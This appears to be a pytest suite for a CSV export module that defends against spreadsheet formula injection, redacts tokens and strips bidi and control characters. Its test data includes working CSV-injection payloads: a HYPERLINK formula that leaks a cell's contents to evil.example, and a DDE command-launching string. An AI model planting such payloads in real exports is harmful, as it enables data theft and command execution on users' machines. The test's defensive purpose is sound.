"""CSV exports: hostile cells are neutralised, numbers stay numbers, secrets never leave."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.exports import (
    FORMULA_STARTS,
    SEPARATORS,
    CsvCell,
    cell_text,
    neutralise,
    write_csv,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "  =1+1",
    "＝1+1",
    "-",
    '"=1+1"',
]
# A trigger after a separator: each field start that could begin a formula gets its apostrophe.
MIDDLE = {
    'Müller;=HYPERLINK("http://evil.example")': 'Müller;\'=HYPERLINK("http://evil.example")',
    "a,=1+1": "a,'=1+1",
    "a|@SUM(A1)": "a|'@SUM(A1)",
    "Ø 22mm\t+1": "Ø 22mm\t'+1",
    "note\n-1+2": "note\n'-1+2",
    "x; =1": "x;' =1",
    'x;"=1"': 'x;\'"=1"',
    "x;＠A1": "x;'＠A1",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n@SUM(A1)": "'\n'@SUM(A1)",
    "=1;=2": "'=1;'=2",
}
TRIGGERS = "".join(FORMULA_STARTS) + "＝＋－＠"
SPACES = ' \n\x0b\x0c\u00a0"'
HARMLESS = [
    "#1001",
    "Müller",
    "a=b",
    "1+1",
    "email@example.com",
    "",
    "Ø 22mm",
    "'quoted",
    "Müller; Schmidt",
    "a,b|c",
    "x;'=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_get_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize(("text", "safe"), MIDDLE.items())
def test_a_formula_after_any_separator_is_neutralised(text: str, safe: str) -> None:
    """German Excel re-splits on `;`, others on `,`, tab or `|`; a line break starts a row."""
    assert neutralise(text) == safe


def _pieces(written: str) -> list[str]:
    """Every field a spreadsheet could make of `written`, whichever separator it splits on
    (one of them, or all of them at once)."""
    pieces = [written]
    for separator in SEPARATORS:
        pieces += written.split(separator)
    for separator in SEPARATORS:
        written = written.replace(separator, SEPARATORS[0])
    return pieces + written.split(SEPARATORS[0])


def _starts_a_formula(piece: str) -> bool:
    return piece.lstrip(SPACES).startswith(tuple(TRIGGERS)) or piece.startswith(tuple(TRIGGERS))


_HOSTILE_TEXT = st.text(
    alphabet=st.sampled_from([*TRIGGERS, *SEPARATORS, *SPACES, "a", "1", "'", "(", "é"]),
    max_size=30,
)


@given(text=_HOSTILE_TEXT | st.text(max_size=30))
def test_no_field_of_a_neutralised_cell_starts_a_formula(text: str) -> None:
    written = neutralise(text)
    assert not any(_starts_a_formula(piece) for piece in _pieces(written)), repr(written)
    assert written.replace("'", "") == text.replace("'", "")  # only apostrophes are added
    assert neutralise(written) == written  # idempotent: safe text stays as it is


@given(text=_HOSTILE_TEXT)
def test_no_field_of_a_written_file_starts_a_formula(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    """The file as written (quotes doubled, fields quoted by the csv writer) under every split."""
    target = tmp_path_factory.mktemp("split") / "export.csv"
    write_csv(target, ["Name"], [[text], [text + ";" + text]], delimiter=",")
    raw = target.read_text(encoding="utf-8-sig")
    for piece in _pieces(raw):
        assert not _starts_a_formula(piece), (piece, raw)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_kept(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_and_instants_are_not_text() -> None:
    assert cell_text(Decimal("-12.50")) == "-12.50"
    assert cell_text(Decimal(100).scaleb(2)) == "10000"
    assert cell_text(-3) == "-3"
    berlin = timezone(timedelta(hours=2))
    assert cell_text(datetime(2026, 5, 1, 12, 30, tzinfo=berlin)) == "2026-05-01 10:30:00"
    assert cell_text(None) == ""
    with pytest.raises(ValueError, match="naive"):
        cell_text(datetime(2026, 5, 1))


def test_written_file_reads_back_neutralised(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    rows: list[list[CsvCell]] = [
        [text, Decimal("-1.00"), datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)] for text in HOSTILE
    ]
    rows.append(["token shpat_0123456789abcdef0123456789abcdef here", 5, None])
    assert write_csv(target, ["=Title", "Amount", "When (UTC)"], iter(rows)) == len(rows)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
    with target.open(encoding="utf-8-sig", newline="") as stream:
        read = list(csv.reader(stream))
    assert read[0] == ["'=Title", "Amount", "When (UTC)"]
    for line, text in zip(read[1:], HOSTILE, strict=False):
        assert line == ["'" + text, "-1.00", "2026-01-02 03:04:05"]
    assert "shpat_0123456789abcdef" not in target.read_text(encoding="utf-8-sig")
    assert read[-1][0] == "token shpat_[REDACTED] here"
    assert target.stat().st_mode & 0o077 == 0  # private: it names customers


def test_a_failed_export_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    target.write_text("previous\n")

    def rows() -> Iterator[list[CsvCell]]:
        yield ["fine"]
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_csv(target, ["A"], rows())
    assert target.read_text() == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["export.csv"]


def test_control_and_bidi_characters_do_not_reach_a_cell() -> None:
    """An order name with a right-to-left override or an escape sequence is exported as the
    merchant sees it in the window: without them."""
    assert cell_text("#7101\u202e") == "#7101"
    assert cell_text("\u2067Acme\u2069 \x1b[2J") == "Acme [2J"
    assert cell_text("Line\none") == "Line one"
